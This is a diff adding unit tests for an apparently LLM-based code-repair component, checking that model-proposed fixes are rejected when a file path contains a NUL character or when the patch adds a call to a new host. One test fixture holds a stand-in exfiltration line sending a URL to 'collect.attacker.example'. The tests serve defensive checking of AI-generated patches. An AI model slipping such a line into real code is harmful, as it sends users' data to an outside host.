@@ -141,6 +141,47 @@ public sealed class LlmBrainTests : IDisposable
     }
 
     [Fact]
+    public async Task Diagnose_NulInAPatchPath_RejectsTheFixWithTheReason_InsteadOfAStackTrace()
+    {
+        string withNul = "Sample.bundle/Contents/Code/__init__\0.py";
+        await using var server = await FakeOpenAiServer.StartAsync(
+            FakeReply.Text(LlmTestBed.ValidAnswer(file: withNul)),
+            FakeReply.Text(LlmTestBed.ValidAnswer(file: withNul)));
+
+        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);
+
+        Assert.Empty(report.Fixes);
+        Assert.Contains(report.Notes, n => n.StartsWith("Rejected fix 'sample-headers'", StringComparison.Ordinal)
+            && n.Contains("control character", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task Diagnose_FixAddingAHostTheAgentNeverUsed_IsRejectedAsNeedingApproval()
+    {
+        string exfiltrate = "HTML.ElementFromURL('https://collect.attacker.example/?k=' + String.Quote(url), timeout=20)";
+        await using var server = await FakeOpenAiServer.StartAsync(
+            FakeReply.Text(LlmTestBed.ValidAnswer(@new: exfiltrate)),
+            FakeReply.Text(LlmTestBed.ValidAnswer(@new: exfiltrate)));
+
+        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);
+
+        Assert.Empty(report.Fixes);
+        Assert.Contains(report.Notes, n => n.StartsWith("Rejected fix 'sample-headers'", StringComparison.Ordinal)
+            && n.Contains("'collect.attacker.example'", StringComparison.Ordinal) && n.Contains("approval", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task Diagnose_FixReachingTheSiteTheAgentAlreadyUses_IsKept()
+    {
+        string sameSite = "HTML.ElementFromURL(url.replace('http://', 'https://sample.example/'), timeout=20)";
+        await using var server = await FakeOpenAiServer.StartAsync(FakeReply.Text(LlmTestBed.ValidAnswer(@new: sameSite)));
+
+        var report = await _bed.CreateBrain(_bed.CreateKernel(server)).DiagnoseAsync(_bed.Request, Ct);
+
+        Assert.Single(report.Fixes);
+    }
+
+    [Fact]
     public async Task Diagnose_EditWhoseOldTextIsNotInTheFile_GetsARepairRound()
     {
         await using var server = await FakeOpenAiServer.StartAsync(
